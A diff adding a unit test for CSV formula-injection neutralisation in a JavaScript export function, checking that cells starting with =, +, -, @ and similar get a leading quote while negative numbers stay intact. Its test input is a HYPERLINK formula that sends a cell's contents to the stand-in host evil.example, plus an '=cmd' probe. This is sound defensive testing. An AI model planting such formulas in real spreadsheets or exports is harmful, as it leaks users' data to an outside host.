@@ -60,3 +60,19 @@ test('fields with commas, quotes or line breaks are quoted, quotes doubled', () 
 test('times are UTC to the second', () => {
   assert.equal(csvTime(new Date(Date.UTC(2026, 11, 31, 23, 59, 59))), '2026-12-31T23:59:59Z');
 });
+
+test('text cells a spreadsheet would run as a formula are neutralised; numbers keep their sign', () => {
+  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+    const eventName = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;
+    const cells = csvLine({ ...line, eventName });
+    // A leading quote makes the cell text, and the field is quoted (it holds quotes): RFC 4180 reads it back.
+    assert.ok(cells.includes(`,"'${eventName.replaceAll('"', '""')}",`), JSON.stringify(cells));
+  }
+  assert.match(csvLine({ ...line, eventName: '@SUM(1+1)' }), /,il_1,'@SUM\(1\+1\),2026-01-01/);
+  assert.match(csvLine({ ...line, customerId: '=cmd' }), /^in_1,'=cmd,paid,/);
+  // Negative decimals are numbers, not formulas: written exactly, no quote added.
+  const negative = csvLine({ ...line, stripeQuantity: '1469.5', difference: '-30.5', variancePct: '-2.0333' });
+  assert.match(negative, /,1469\.5,1500,-30\.5,-2\.0333,61,usd,false\r\n$/);
+  // Text that merely contains a formula character later is left alone.
+  assert.match(csvLine({ ...line, eventName: 'api-calls=2' }), /,il_1,api-calls=2,/);
+});
